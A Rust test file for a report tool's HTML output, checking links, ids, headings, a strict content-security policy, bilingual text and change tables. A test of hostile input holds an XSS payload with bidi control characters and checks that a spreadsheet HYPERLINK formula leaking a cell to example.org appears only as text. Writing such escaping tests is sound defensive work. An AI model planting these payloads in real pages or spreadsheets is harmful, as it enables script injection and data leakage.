//! `envcoop-report html`: one page that fetches nothing and lets nothing in, and whose links lead
//! somewhere. That its script filters, its language changes and its print is whole is tried in a
//! real browser by `cargo xtask browser`.

use std::collections::BTreeSet;

use envcoop_tests::dom::{Element, content, parse};
use envcoop_tests::files::{Row, tables};
use envcoop_tests::hostile::{self, TEXTS};
use envcoop_tests::{PLAN, folder, put, run};

const LANGS: [&str; 3] = ["en", "zh", "both"];

fn page(line: &str) -> String {
    run(&format!("envcoop-report html {line}")).done().out
}

#[test]
fn every_link_leads_somewhere_and_every_id_is_used_once() {
    let lines = [
        PLAN.to_owned(),
        format!("{PLAN} --baseline data/examples/plan.csv --baseline-as-of 2026-01-31"),
        "data/examples/mini-plan.csv --framework mini --as-of 2027-06-30".to_owned(),
    ];
    for (line, lang) in lines.iter().flat_map(|line| LANGS.map(|lang| (line, lang))) {
        let page = parse(&page(&format!("{line} --lang {lang}")));
        let all = page.all();
        let ids: Vec<&str> = all.iter().map(|e| e.get("id")).filter(|id| !id.is_empty()).collect();
        let unique: BTreeSet<&str> = ids.iter().copied().collect();
        assert_eq!(ids.len(), unique.len(), "{line} {lang}");
        let links = all.iter().filter(|e| e.attributes.contains_key("href"));
        for href in links.map(|link| link.get("href")) {
            let target = href.strip_prefix('#').expect("a link within the page");
            assert!(unique.contains(target), "{line} {lang}: {href}");
        }
        for (element, key) in [("label", "for"), ("svg", "aria-labelledby")] {
            for target in all
                .iter()
                .filter(|e| e.name == element)
                .flat_map(|e| e.get(key).split(' '))
                .filter(|id| !id.is_empty())
            {
                assert!(unique.contains(target), "{target}");
            }
        }
        // Headings in order: none is more than one step below the one before.
        let levels = all.iter().filter_map(|e| e.name.strip_prefix('h')?.parse::<u8>().ok());
        let levels: Vec<u8> = levels.collect();
        assert_eq!(levels[0], 1);
        assert!(levels.windows(2).all(|pair| pair[1] <= pair[0] + 1), "{levels:?}");
        for table in page.find(|e| e.name == "table") {
            assert_eq!(table.elements().next().map(|e| e.name.as_str()), Some("caption"));
            assert!(table.find(|e| e.name == "th").iter().all(|th| !th.get("scope").is_empty()));
        }
    }
}

#[test]
fn the_page_asks_for_nothing() {
    for lang in LANGS {
        let page = page(&format!("{PLAN} --lang {lang}"));
        let lower = page.replace("http://www.w3.org/2000/svg", "").to_lowercase();
        for word in ["http:", "https:", "//www", " src=", "@import", "fetch(", "import(", "<link"] {
            assert!(!lower.contains(word), "{lang}: {word}");
        }
        // Whatever is named by an address stands in the page itself.
        assert_eq!(lower.matches("url(").count(), lower.matches("url(#").count());
        let (_, policy) =
            page.split_once("Content-Security-Policy\" content=\"").expect("a policy");
        let (policy, _) = policy.split_once('"').expect("its end");
        assert!(policy.starts_with("default-src 'none'; style-src 'sha256-"), "{policy}");
        assert!(policy.ends_with("base-uri 'none'; form-action 'none'"), "{policy}");
        assert!(!policy.contains("unsafe"), "{policy}");
        for element in parse(&page).all() {
            let forbidden = |key: &String| key.starts_with("on") || key == "style" || key == "src";
            assert!(!element.attributes.keys().any(forbidden), "{element:?}");
        }
    }
}

#[test]
fn without_a_script_all_is_seen_and_nothing_pretends_to_work() {
    let page = parse(&page(PLAN));
    let hidden = page.find(|e| e.attributes.contains_key("hidden"));
    let hidden: Vec<&str> = hidden.iter().map(|e| e.get("id")).collect();
    assert_eq!(hidden, ["filters", "gap-none"]);
    assert!(page.find(|e| e.name == "details" || e.name == "summary").len() <= 2);
}

#[test]
fn the_page_speaks_its_languages() {
    let [en, zh, both] = LANGS.map(|lang| page(&format!("{PLAN} --lang {lang}")));
    assert!(en.contains("<html lang=\"en\">") && both.contains("<html lang=\"en\">"));
    assert!(zh.contains("<html lang=\"zh\">"));
    assert!(!en.contains(" lang=\"zh\"") && !en.contains("type=\"radio\""));
    assert!(!zh.contains("How the challenges are met") && zh.contains("各挑战满足程度"));
    assert!(both.contains(
        "<h2><i lang=\"en\">How the challenges are met</i><i lang=\"zh\">各挑战满足程度</i></h2>"
    ));
    let both = parse(&both);
    let radios = both.find(|e| e.get("type") == "radio");
    assert_eq!(radios.len(), 2);
    assert!(radios[0].attributes.contains_key("checked"));
    // In each language the two say the same figures as the page in that language alone.
    let figures = |page: &Element, other: &str| -> Vec<String> {
        page.find(|e| e.is("figure")).iter().map(|e| e.text_without(other)).collect()
    };
    assert_eq!(figures(&both, "zh"), figures(&parse(&en), "zh"));
    assert_eq!(figures(&both, "en"), figures(&parse(&zh), "en"));
    let text = |page: &Element, other| page.by_id("gaps").text_without(other);
    assert_eq!(text(&parse(&zh), "en").matches("行动缺口").count(), {
        // Choices of the filter stand in both languages.
        text(&both, "en").matches("行动缺口").count()
    });
}

#[test]
fn the_page_tells_what_changed() {
    let line = "data/examples/mini-plan.csv --framework mini --as-of 2027-06-30 \
                --baseline data/examples/mini-plan-earlier.csv --baseline-as-of 2027-03-31";
    let table = tables(line);
    let page = parse(&page(line));
    let section = page.by_id("changes");
    let rows = section.find(|e| e.name == "tr");
    let shown: Vec<Vec<String>> = rows.iter().map(|row| row.cells()).collect();
    for row in table("challenge_changes") {
        let before = format!("{}–{}\u{a0}%", row["low_before"], row["high_before"]);
        let now = format!("{}–{}\u{a0}%", row["low"], row["high"]);
        let id = &row["challenge"];
        assert!(
            shown
                .iter()
                .any(|cells| cells[0].starts_with(&**id) && cells[1..] == [&*before, &*now]),
            "{row:?}"
        );
    }
    let changed: Vec<Row> =
        table("changes").into_iter().filter(|row| row["change"] != "same").collect();
    let of_needs: Vec<&Vec<String>> = shown.iter().filter(|cells| cells.len() == 6).collect();
    assert_eq!(of_needs.len(), changed.len() + 1);
    for (cells, row) in of_needs[1..].iter().zip(&changed) {
        assert!(cells[0].starts_with(&row["measure"]), "{cells:?}");
        assert_eq!(cells[1..3], [&*row["need"], &*row["change"]]);
        assert_eq!(cells[5], row["cause"]);
    }
    assert!(section.text().contains(" same "), "how many did not change is said");
}

/// A text that wants to be more than one.
const MARKUP: &str =
    "</script></title><img src=x onerror=alert(1)> & \"q\" 'a' <!-- \u{202e}cba\u{2066}";

#[test]
fn hostile_texts_stay_texts() {
    let folder = folder();
    let strategy = put(&folder, "strategy.json", hostile::framework());
    let long = "x".repeat(hostile::LONGEST);
    let texts: Vec<&str> = TEXTS.into_iter().chain([MARKUP, &long]).collect();
    let plan = put(&folder, "<b>plan&'s.json", hostile::plan(&texts));
    for lang in LANGS {
        let text =
            run(&format!("envcoop-report html --as-of 2028-06-30 --lang {lang} --framework"))
                .arg(&strategy)
                .arg(&plan)
                .done()
                .out;
        let own = content(&text);
        for word in ["<img", "<!--", "<b>plan", "<b>bold", "<script>alert"] {
            assert!(!own.contains(word), "{lang}: {word}");
        }
        assert_eq!(text.matches("</script>").count(), 1);
        assert_eq!(text.matches("</title>").count(), text.matches("<title").count());
        let unseen = |c: char| {
            c.is_control() && !matches!(c, '\n' | '\t')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        };
        assert_eq!(text.chars().find(|&c| unseen(c)), None);
        let page = parse(&text);
        assert_eq!(page.find(|e| e.is("measure")).len(), 300);
        let cells = page.find(|e| ["th", "td"].contains(&e.name.as_str()));
        let longest = cells.iter().map(|cell| cell.text()).max_by_key(String::len).expect("cells");
        assert!(longest.len() < 3000, "a cell of {} bytes: {longest}", longest.len());
        // What misleads is seen, the rest is as it was.
        assert!(page.text_without("fr").contains("=HYPERLINK(\"http://example.org/\"&A1,"));
        assert!(page.text_without("fr").contains("<!-- ·cba·"));
    }
}

#[test]
fn the_same_plan_gives_the_same_page() {
    let line = format!("{PLAN} --lang both");
    assert_eq!(page(&line), page(&line));
}

#[test]
fn the_page_goes_into_a_file_only_where_none_is() {
    let folder = folder();
    let file = folder.path().join("page.html");
    let line = format!("envcoop-report html {PLAN} -o {}", file.display());
    run(&line).done();
    let written = std::fs::read_to_string(&file).expect("the page");
    assert_eq!(written, page(PLAN));
    run(&line).refused();
    run(&format!("{line} --force")).done();
}
